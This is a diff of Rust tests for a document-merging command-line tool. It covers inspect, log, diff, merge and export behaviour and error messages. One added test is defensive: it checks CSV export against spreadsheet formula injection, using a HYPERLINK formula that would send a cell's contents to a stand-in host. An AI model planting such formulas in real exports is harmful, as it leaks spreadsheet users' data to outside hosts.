@@ -2,7 +2,7 @@
 
 use crate::program::{converge, data, folder, parts};
 use converge::history::{TABLE, read_events};
-use converge::{Doc, Error, EventId, EventRun, RowOp, Value};
+use converge::{Doc, Error, EventId, EventRun, RowOp, Store, StoreOptions, Value};
 use std::collections::BTreeSet;
 use std::fs::{self, File};
 use std::io::Read;
@@ -82,11 +82,9 @@ fn inspect_tells_what_is_in_the_real_histories() -> Result<(), Error> {
         doc.save_file(folder.path().join("doc"))?;
         let saved = doc.save()?;
         let shown = said(folder.path(), &["inspect", "doc"]);
-        assert_eq!(fact(&shown, "kind"), "document");
+        assert_eq!(fact(&shown, "content"), "document");
         assert_eq!(fact(&shown, "version"), "1");
         assert_eq!(fact(&shown, "bytes"), saved.len().to_string());
-        let checksum = format!("{:08x}, as the bytes have it", checksum_of(&saved));
-        assert_eq!(fact(&shown, "checksum"), checksum);
         assert_eq!(fact(&shown, "events"), events.to_string());
         assert_eq!(fact(&shown, "peers"), peers.to_string());
         assert_eq!(fact(&shown, "waiting"), "0");
@@ -94,9 +92,10 @@ fn inspect_tells_what_is_in_the_real_histories() -> Result<(), Error> {
         assert_eq!(number(&shown, TABLE), rows.to_string());
         assert!(!shown.contains("horizon"), "{shown}");
         let checks: Vec<_> = shown.lines().filter_map(|line| line.strip_prefix("check     ")).collect();
-        assert_eq!(checks, ["loads: ok", "saves to the same bytes: ok", "history gives the rows: ok"]);
+        assert_eq!(checks, ["bytes: ok", "loads: ok", "saves to the same bytes: ok", "history gives the rows: ok"]);
         // All but the few bytes of the frame are in a section.
-        let sizes = ["peers", "names", "state", "history"].map(|section| number(&shown, section).parse::<usize>());
+        let sizes = ["peers", "names", "state", "history", "fingerprints"]
+            .map(|section| number(&shown, section).parse::<usize>());
         let sections: usize = sizes.into_iter().flatten().sum();
         assert!((1..50).contains(&(saved.len() - sections)), "{shown}");
 
@@ -115,17 +114,12 @@ fn sealed(mut bytes: Vec<u8>) -> Vec<u8> {
     bytes
 }
 
-/// The last four bytes, as the format has them.
-fn checksum_of(saved: &[u8]) -> u32 {
-    saved.last_chunk().copied().map(u32::from_le_bytes).expect("a checksum")
-}
-
 #[test]
 fn inspect_tells_horizons_and_waiting_events_and_updates() -> Result<(), Error> {
     let folder = folder();
     let events = history("yjs.history.tsv.gz");
     let doc = document(&events[..1_000]);
-    doc.compact(&doc.version()?)?;
+    doc.compact(&[doc.summary()?])?;
     let horizon: Vec<_> = doc.version()?.iter().map(|of| format!("{}:{}", of.peer, of.count - 1)).collect();
     // One of them waits for the one that is left out.
     doc.merge_events(&events[1_000..1_100])?;
@@ -133,17 +127,17 @@ fn inspect_tells_horizons_and_waiting_events_and_updates() -> Result<(), Error> 
     doc.save_file(folder.path().join("doc"))?;
     let shown = said(folder.path(), &["inspect", "doc", "--all"]);
     assert_eq!(fact(&shown, "events"), (1_101 - waiting).to_string());
-    assert_eq!(fact(&shown, "history"), format!("{} of them, beyond the horizon", 101 - waiting));
+    assert_eq!(fact(&shown, "history"), format!("{} of them, above the horizon", 101 - waiting));
     assert_eq!(fact(&shown, "horizon"), horizon.join(","));
     assert_eq!(fact(&shown, "waiting"), waiting.to_string());
     assert!(shown.ends_with("history gives the rows: ok\n"), "{shown}");
 
     let whole = document(&events);
     let known = document(&events[..2_000]).version()?;
-    fs::write(folder.path().join("update"), whole.update_since(&known)?).expect("written");
-    fs::write(folder.path().join("all"), whole.update_since(&[])?).expect("written");
+    fs::write(folder.path().join("update"), whole.update_since(&Doc::summary_of(&known)?)?).expect("written");
+    fs::write(folder.path().join("all"), whole.update_since(&Doc::summary_of(&[])?)?).expect("written");
     let shown = said(folder.path(), &["inspect", "update"]);
-    assert_eq!(fact(&shown, "kind"), "update");
+    assert_eq!(fact(&shown, "content"), "update");
     assert_eq!((fact(&shown, "applied"), fact(&shown, "waiting")), ("0", "247"));
     let first_missing = fact(&shown, "missing").split(':').next().unwrap_or_default();
     assert!(known.iter().any(|known| known.peer == first_missing), "{shown}");
@@ -151,6 +145,24 @@ fn inspect_tells_horizons_and_waiting_events_and_updates() -> Result<(), Error> 
     let shown = said(folder.path(), &["inspect", "all"]);
     assert_eq!((fact(&shown, "applied"), fact(&shown, "waiting")), ("2247", "0"));
     assert_eq!((fact(&shown, "missing"), number(&shown, TABLE)), ("none", "74"));
+    Ok(())
+}
+
+#[test]
+fn inspect_describes_the_bytes_of_a_store() -> Result<(), Error> {
+    let folder = folder();
+    let store = Store::create("ann", StoreOptions::default())?;
+    store.set("cursors", "ann", 7, 1_000.0)?;
+    store.set("cursors", "ben", 8, 1_000.0)?;
+    store.set("who is here", "ann", true, 2_000.0)?;
+    let update = store.take_update()?.expect("an update");
+    for (bytes, content) in [(store.snapshot(&[])?, "snapshot of a store"), (update, "update of a store")] {
+        fs::write(folder.path().join("entries"), &bytes).expect("written");
+        let shown = said(folder.path(), &["inspect", "entries"]);
+        assert!(["snapshot of a store", "update of a store"].contains(&fact(&shown, "content")), "{shown}");
+        assert_eq!((number(&shown, "cursors"), number(&shown, "\"who is here\"")), ("2", "1"), "{content}: {shown}");
+        assert!(shown.ends_with("check     merges: ok\n"), "{shown}");
+    }
     Ok(())
 }
 
@@ -165,22 +177,20 @@ fn inspect_says_which_check_fails() -> Result<(), Error> {
         stdout.lines().last().unwrap_or_default().to_owned()
     };
 
-    assert_eq!(shown(b"PK\x03\x04"), "check     frame: FAILED: it begins as nothing that converge wrote");
-    assert!(shown(&saved[..saved.len() - 1]).starts_with("check     frame: FAILED: it is cut off: "));
-    assert!(
-        shown(&[saved.as_slice(), &[0]].concat()).starts_with("check     frame: FAILED: it goes on after its end: ")
-    );
+    let corrupt = "check     bytes: FAILED: corrupt bytes: ";
+    assert!(shown(b"PK\x03\x04").starts_with(corrupt));
+    assert!(shown(&saved[..saved.len() - 1]).starts_with(corrupt));
+    assert!(shown(&[saved.as_slice(), &[0]].concat()).starts_with(corrupt));
     let mut newer = saved.clone();
     newer[4] = 2;
-    let version = "check     frame: FAILED: it is of format version 2, and this program reads 1";
-    assert_eq!(shown(&newer), version);
+    assert!(shown(&newer).starts_with("check     bytes: FAILED: this engine cannot read format version 2"));
     let mut flipped = saved.clone();
     flipped[30] ^= 1;
-    assert!(shown(&flipped).starts_with("check     checksum: FAILED: "));
-    // With a checksum that fits, it is for the engine to find: here, what says that it is an update.
+    assert!(shown(&flipped).contains("checksum"));
+    // The checksum fits, but the bytes claim to be an update, which has other sections.
     let mut other_kind = saved;
     other_kind[5] = b'U';
-    assert!(shown(&sealed(other_kind)).starts_with("check     merges: FAILED: corrupt bytes: at byte "));
+    assert!(shown(&sealed(other_kind)).starts_with(corrupt));
     Ok(())
 }
 
@@ -203,7 +213,7 @@ fn whatever_is_flipped_a_check_fails_or_it_is_another_sound_document() -> Result
         let checks = stdout.lines().filter_map(|line| line.strip_prefix("check     ")?.split_once(": FAILED"));
         failed.extend(checks.map(|(check, _)| check.to_owned()));
     }
-    let every = ["frame", "history gives the rows", "loads", "saves to the same bytes"];
+    let every = ["bytes", "history gives the rows", "loads", "saves to the same bytes"];
     assert_eq!(failed.iter().collect::<Vec<_>>(), every);
     Ok(())
 }
@@ -226,7 +236,7 @@ fn inspect_takes_whatever_comes() {
         let (code, stdout, stderr) = parts(&converge([Path::new("inspect"), &file]));
         assert_eq!((code, stderr.as_str()), (Some(i32::from(!is_sound)), ""), "{name}: {stdout}");
         assert_eq!(stdout.contains("FAILED"), !is_sound, "{name}: {stdout}");
-        let is_left_out = stdout.contains("not made: section 64 is of a later version, and would be lost");
+        let is_left_out = stdout.contains("skipped: section 64 is of a later version and would be lost");
         assert_eq!(is_left_out, name == "unknown-section-to-skip.bin", "{name}: {stdout}");
     }
 }
@@ -242,7 +252,8 @@ fn log_tells_every_event_in_the_order_of_execution() -> Result<(), Error> {
         .map(|event| {
             let deps: Vec<_> = event.deps.iter().map(|dep| format!("{}:{}", dep.peer, dep.counter)).collect();
             let deps = if deps.is_empty() { "-".to_owned() } else { deps.join(",") };
-            (event.lamport, format!("{}:{}  lamport {}  on {deps}  ", event.peer, event.start, event.lamport))
+            let lamport = event.lamport.unwrap_or_default();
+            (lamport, format!("{}:{}  lamport {lamport}  on {deps}  ", event.peer, event.start))
         })
         .collect();
     // A stable order: equal lamport times by peer.
@@ -253,7 +264,7 @@ fn log_tells_every_event_in_the_order_of_execution() -> Result<(), Error> {
     }
 
     let last: Vec<&str> = shown.lines().skip(expected.len() - 3).collect();
-    assert_eq!(said(folder.path(), &["log", "doc", "--most", "3"]).lines().collect::<Vec<_>>(), last);
+    assert_eq!(said(folder.path(), &["log", "doc", "--limit", "3"]).lines().collect::<Vec<_>>(), last);
     let of_peer = said(folder.path(), &["log", "doc", "--peer=p0216"]);
     let expected: Vec<&str> = shown.lines().filter(|line| line.starts_with("p0216:")).collect();
     assert!(!expected.is_empty());
@@ -267,7 +278,7 @@ fn log_tells_every_event_in_the_order_of_execution() -> Result<(), Error> {
 fn log_shows_odd_names_plainly_and_what_is_beyond_a_horizon() -> Result<(), Error> {
     let folder = folder();
     let doc = odd()?;
-    doc.compact(&doc.version()?)?;
+    doc.compact(&[doc.summary()?])?;
     doc.save_file(folder.path().join("doc"))?;
     assert_eq!(said(folder.path(), &["log", "doc"]), "");
     doc.commit(vec![])?;
@@ -311,10 +322,10 @@ fn diff_tells_the_same_of_versions_and_of_files() -> Result<(), Error> {
 
     let error = complained(folder.path(), &["diff", "old", "--from", &to]);
     assert!(error.starts_with("converge: old: invalid argument: "), "{error}");
-    new.compact(&old.version()?)?;
+    new.compact(&[old.summary()?])?;
     new.save_file(folder.path().join("new"))?;
     let error = complained(folder.path(), &["diff", "new", "--from", ""]);
-    assert!(error.starts_with("converge: new: the history that this needs was compacted away; "), "{error}");
+    assert!(error.starts_with("converge: new: the call needs history that was compacted away; "), "{error}");
     assert_eq!(differs(&["diff", "new", "--from", &from]), of_files);
     Ok(())
 }
@@ -342,7 +353,7 @@ fn merge_takes_documents_and_updates_in_any_number() -> Result<(), Error> {
     let (early, middle) = (document(&events[..800]), document(&events[..1_500]));
     early.save_file(folder.path().join("early"))?;
     middle.save_file(folder.path().join("middle"))?;
-    fs::write(folder.path().join("late"), whole.update_since(&middle.version()?)?).expect("written");
+    fs::write(folder.path().join("late"), whole.update_since(&middle.summary()?)?).expect("written");
 
     let shown = said(folder.path(), &["merge", "early", "late", "middle", "-o", "out"]);
     let expected = format!(
@@ -358,7 +369,23 @@ fn merge_takes_documents_and_updates_in_any_number() -> Result<(), Error> {
     let waiting = Doc::load_file("test", folder.path().join("early"))?;
     assert_eq!(waiting.merge_events(&[])?.waiting, 747);
     let shown = said(folder.path(), &["merge", "middle", "early", "--output", "out"]);
-    assert!(shown.starts_with("early: 0 applied, 800 known before; its waiting events stay behind\n"), "{shown}");
+    assert!(shown.starts_with("early: 0 applied, 800 known before\nwaiting   0\n"), "{shown}");
+    Ok(())
+}
+
+#[test]
+fn merging_two_lives_of_a_peer_keeps_both() -> Result<(), Error> {
+    let folder = folder();
+    for (name, text) in [("first", "one life"), ("second", "another life")] {
+        let doc = Doc::create("ann")?;
+        doc.insert("notes", name, [("text", text)])?;
+        doc.save_file(folder.path().join(name))?;
+    }
+    let shown = said(folder.path(), &["merge", "first", "second", "-o", "out"]);
+    assert!(shown.starts_with("second: 1 applied, 0 known before\nwaiting   0\n"), "{shown}");
+    let doc = Doc::load_file("test", folder.path().join("out"))?;
+    assert_eq!(doc.version()?.len(), 2);
+    assert!(doc.get("notes", "first")?.is_some() && doc.get("notes", "second")?.is_some());
     Ok(())
 }
 
@@ -366,25 +393,22 @@ fn merge_takes_documents_and_updates_in_any_number() -> Result<(), Error> {
 fn merges_that_are_refused_write_nothing() -> Result<(), Error> {
     let folder = folder();
     let doc = odd()?;
-    let other = Doc::create("ann, \"the\" first")?;
-    other.insert("odd", "r", [("text", "another life")])?;
     let compacted = Doc::load("zoe", &doc.save()?)?;
-    compacted.compact(&compacted.version()?)?;
-    for (name, doc) in [("doc", &doc), ("other", &other), ("compacted", &compacted), ("empty", &Doc::create("ann")?)] {
+    compacted.compact(&[compacted.summary()?])?;
+    for (name, doc) in [("doc", &doc), ("compacted", &compacted), ("empty", &Doc::create("ann")?)] {
         doc.save_file(folder.path().join(name))?;
     }
-    fs::write(folder.path().join("update"), doc.update_since(&[])?).expect("written");
+    fs::write(folder.path().join("update"), doc.update_since(&Doc::summary_of(&[])?)?).expect("written");
     fs::write(folder.path().join("damaged"), "PK").expect("written");
 
     let merge = |one: &str, other: &str| complained(folder.path(), &["merge", one, other, "-o", "out"]);
-    assert!(merge("doc", "other").starts_with("converge: other: two different events are named "));
     let error = merge("empty", "compacted");
     assert!(
-        error.starts_with("converge: compacted: ") && error.contains("name the compacted document before the others"),
+        error.starts_with("converge: compacted: ") && error.contains("name the compacted document first"),
         "{error}"
     );
     let error = merge("update", "doc");
-    assert!(error.starts_with("converge: update: it is an update, and a document is needed"), "{error}");
+    assert!(error.starts_with("converge: update: it is an update, and the command needs a document"), "{error}");
     assert!(merge("doc", "damaged").starts_with("converge: damaged: corrupt bytes: at byte 0"));
     assert!(merge("doc", "none").starts_with("converge: none: "));
     assert!(!folder.path().join("out").exists());
@@ -418,6 +442,44 @@ fn export_writes_what_other_tools_read() -> Result<(), Error> {
     assert!(error.contains("has a column \"zoo\"") && error.contains("--id NAME"), "{error}");
     let error = complained(folder.path(), &["export", "doc", "--table", "odd", "-o", "."]);
     assert!(error.starts_with("converge: .: "), "{error}");
+    Ok(())
+}
+
+#[test]
+fn exported_texts_pass_for_formulas_unless_they_are_neutralized() -> Result<(), Error> {
+    let folder = folder();
+    let doc = Doc::create("ann")?;
+    let formula = "=HYPERLINK(\"http://example.org/\" & A1)";
+    for (row, text) in
+        [("=r", formula), ("r1", "+1"), ("r2", "-1"), ("r3", "@x"), ("r4", "\tx"), ("r5", "\rx"), ("r6", "1-1")]
+    {
+        doc.insert("t", row, [("=c", Value::from(text)), ("n", (-1).into())])?;
+    }
+    doc.save_file(folder.path().join("doc"))?;
+    let export = |more: &[&str]| {
+        let csv = said(folder.path(), &[&["export", "doc", "--table", "t"], more].concat());
+        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
+        let records = reader.records().map(|record| record.expect("a record").iter().map(str::to_owned).collect());
+        records.collect::<Vec<Vec<String>>>()
+    };
+    let row = |id: &str, text: &str, number: &str| [id, text, number].map(str::to_owned).to_vec();
+    let plain = export(&[]);
+    assert_eq!(plain[..2], [row("id", "=c", "n"), row("=r", formula, "-1")]);
+    let neutral = export(&["--neutralize-formulas"]);
+    let expected = [
+        row("id", "'=c", "n"),
+        row("'=r", &format!("'{formula}"), "-1"),
+        row("r1", "'+1", "-1"),
+        row("r2", "'-1", "-1"),
+        row("r3", "'@x", "-1"),
+        row("r4", "'\tx", "-1"),
+        row("r5", "'\rx", "-1"),
+        row("r6", "1-1", "-1"),
+    ];
+    assert_eq!(neutral, expected);
+    let (code, ..) =
+        run(folder.path(), &["export", "doc", "--table", "t", "--format", "jsonl", "--neutralize-formulas"]);
+    assert_eq!(code, Some(2));
     Ok(())
 }
 
@@ -473,7 +535,7 @@ fn damaged_files_are_refused_by_every_command() -> Result<(), Error> {
     for (bytes, expected) in [
         (flipped.as_slice(), "corrupt bytes: at byte "),
         (cut, "corrupt bytes: at byte "),
-        (&newer, "format version 9 is not one that this engine reads; a newer program may read it"),
+        (&newer, "this engine cannot read format version 9; a newer engine wrote the bytes"),
         (b"", "corrupt bytes: at byte 0"),
     ] {
         fs::write(folder.path().join("doc"), bytes).expect("written");
@@ -497,7 +559,7 @@ fn wrong_calls_of_the_commands_end_with_2() {
         &["inspect", "a", "b"],
         &["inspect", "a", "--most", "1"],
         &["log"],
-        &["log", "a", "--most", "-1"],
+        &["log", "a", "--limit", "-1"],
         &["log", "a", "b"],
         &["diff"],
         &["diff", "a"],
@@ -549,7 +611,7 @@ fn replay_saves_the_document() -> Result<(), Error> {
 }
 
 #[test]
-fn nobody_who_reads_is_no_crash() -> Result<(), Error> {
+fn a_reader_that_closes_the_pipe_as_head_does_is_no_failure() -> Result<(), Error> {
     let folder = folder();
     let history = data("automerge.history.tsv.gz").display().to_string();
     said(folder.path(), &["replay", &history, "--batch", "10000", "--save", "doc"]);
@@ -571,7 +633,7 @@ fn nobody_who_reads_is_no_crash() -> Result<(), Error> {
         drop(program.stdout.take());
         let mut stderr = String::new();
         program.stderr.take().expect("a pipe").read_to_string(&mut stderr).expect("text");
-        assert_eq!((program.wait().expect("it ends").code(), stderr.as_str()), (Some(1), ""), "{command:?}");
+        assert_eq!((program.wait().expect("it ends").code(), stderr.as_str()), (Some(0), ""), "{command:?}");
     }
     Ok(())
 }
@@ -584,8 +646,10 @@ fn waiting_events_are_counted_and_not_told() -> Result<(), Error> {
     let early = EventRun {
         peer: "ben".into(),
         start: 0,
-        lamport: 9,
+        lamport: Some(9),
         deps: vec![EventId::new("zoe", 3)],
+        fingerprints: vec![],
+        salt: 0,
         commits: vec![vec![RowOp::delete("odd", "r2")]],
     };
     doc.merge_events(&[early])?;
